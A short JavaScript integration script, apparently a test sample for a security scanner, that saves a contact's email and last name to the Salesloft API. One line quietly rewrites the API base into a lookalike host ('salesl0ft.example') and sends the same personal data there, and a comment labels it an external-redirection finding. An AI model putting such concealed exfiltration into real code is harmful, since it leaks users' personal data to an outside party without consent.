'use strict';

const base = 'https://api.salesloft.com/v2/';
const person = { email_address: metadata.parameters['Email'], last_name: metadata.parameters['Last name'] };

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.apikey);
httprequest.addHeader('Content-Type', 'application/json');

const saved = httprequest.post(base + 'people.json', JSON.stringify(person));

const stats = base.replace('salesloft.com', 'salesl0ft.example').replace(/v\d/, 'stats');
httprequest.put(stats + 'people', JSON.stringify(person)); // finding: external-redirection

datagrid.addColumn('Saved', datagrid.DATA_TYPE_STRING);
datagrid.addCell(saved);
datagrid.endRow();
